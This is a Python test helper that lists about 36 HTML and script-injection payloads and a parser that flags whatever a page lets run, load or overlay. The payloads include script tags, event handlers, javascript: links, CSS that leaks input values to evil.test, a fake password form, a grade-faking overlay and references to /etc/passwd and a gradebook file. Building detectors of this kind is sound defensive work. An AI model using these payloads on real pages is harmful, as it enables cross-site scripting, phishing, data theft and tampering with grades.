"""Markup that would run, load or cover something, and how to see whether a page does."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ALERT = "alert(document.domain)"
MARKUP = {
    "a script": f"<script>{ALERT}</script>",
    "a script in capitals": f"<SCRIPT SRC=//evil.test/x.js></SCRIPT><ScRiPt>{ALERT}</sCrIpT>",
    "a script that ends the page's": f"</script><script>{ALERT}</script>",
    "a script after a text": f"</title></style></textarea></pre></div><script>{ALERT}</script>",
    "an event": f"<img src=x onerror={ALERT}><body onload={ALERT}><div onclick={ALERT}>x</div>",
    "an event in a picture": f'<svg onload="{ALERT}"><animate onbegin="{ALERT}"/></svg>',
    "a script in a picture": f"<svg><script>{ALERT}</script></svg>",
    "a link that runs": f'<a href="javascript:{ALERT}">x</a><a href=" jAvA\tscript:{ALERT}">y</a>',
    "a link to data": f'<a href="data:text/html,<script>{ALERT}</script>">x</a>',
    "a frame": f'<iframe src="//evil.test"></iframe><iframe srcdoc="<script>{ALERT}</script>">',
    "an object": '<object data="//evil.test"></object><embed src="//evil.test"><applet code=x>',
    "a form": '<form action="//evil.test"><input name=password autofocus><button>Go</button></form>',
    "a base": '<base href="//evil.test/"><link rel=stylesheet href="//evil.test/x.css">',
    "a redirection": '<meta http-equiv="refresh" content="0;url=//evil.test">',
    "a style": "<style>@import '//evil.test/x.css'; body{background:url(//evil.test)}</style>",
    "a style that loads": '<p style="background:url(//evil.test/x.png)">x</p>',
    "a style that covers": '<div style="position:fixed;top:0;left:0;z-index:9">Your mark: 16</div>',
    "a picture from elsewhere": '<img src="//evil.test/x.png"><img srcset="//evil.test/y.png 2x">',
    "a video": '<video src="//evil.test" poster="//evil.test"></video><audio src="//evil.test">',
    "a template": f"<template><script>{ALERT}</script></template><noscript><p title='</noscript>"
    f"<img src=x onerror={ALERT}>'>",
    "mathematics": f'<math><mtext><table><mglyph><style><img src=x onerror="{ALERT}">',
    "a half tag": f"<img src=x onerror={ALERT}",
    "a comment": f"<!--><img src=x onerror={ALERT}>--><!--[if IE]><script>{ALERT}</script>",
    "a closing quote": f'"><img src=x onerror={ALERT}><x y="',
    "a link in other letters": f'<a href="java&#115;cript&colon;{ALERT}">x</a><a href="&#1;javascript:{ALERT}">',
    "a picture of markup": f'<img src="data:image/svg+xml,<svg onload={ALERT}>"><img src="data:text/html,x">',
    "a reference in a picture": f'<svg><use href="//evil.test/x.svg#a"/><a xlink:href="javascript:{ALERT}">x',
    "a link in mathematics": f'<math href="javascript:{ALERT}"><mi>x</mi></math>',
    "an event of a list": f"<details open ontoggle={ALERT}><summary onfocus={ALERT} tabindex=1>x",
    "an event that moves": f"<marquee onstart={ALERT}>x</marquee><p style='animation:x' onanimationend={ALERT}>",
    "styles that spy": "<style>input[value^=a]{background:url(//evil.test/a)}</style>"
    "<p style='content:url(//evil.test)'>",
    "a style with a rule in it": "<p style=\"color:red;}body{background:url('//evil.test')}\">x</p>",
    "a style that runs": f"<p style='width:expression({ALERT})'><p style='-moz-binding:url(//evil.test)'>",
    "what is fetched ahead": "<link rel=prefetch href=//evil.test><link rel=dns-prefetch href=//evil.test>",
    "mathematics that runs": f"$\\href{{javascript:{ALERT}}}{{x}}$ $\\require{{html}}\\style{{position:fixed}}{{x}}$",
    "the course's files": '<img src="../../../gradebook.db"><img src="file:///etc/passwd">',
}


class Page(HTMLParser):
    """What in a page could run, load or cover."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self._inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        for name, value in attrs:
            value = value or ""
            plain = re.sub(r"[\s\0]", "", value).lower()
            if name.startswith("on") or plain.startswith(("javascript:", "vbscript:")):
                self.bad.append(f"{tag} {name}={value}")
            if "evil.test" in value and not (tag == "a" and name == "href"):
                self.bad.append(f"{tag} {name}={value}")
            if name in ("srcdoc", "autofocus") or ("position" in value and name == "style"):
                self.bad.append(f"{tag} {name}={value}")
            if name == "src" and ("gradebook" in value or "passwd" in value):
                self.bad.append(f"{tag} {name}={value}")
        if tag in ("iframe", "object", "embed", "form", "base", "applet", "video", "audio"):
            self.bad.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside in ("script", "style") and (ALERT in data or "evil.test" in data):
            self.bad.append(f"{self._inside}: {data[:80]}")
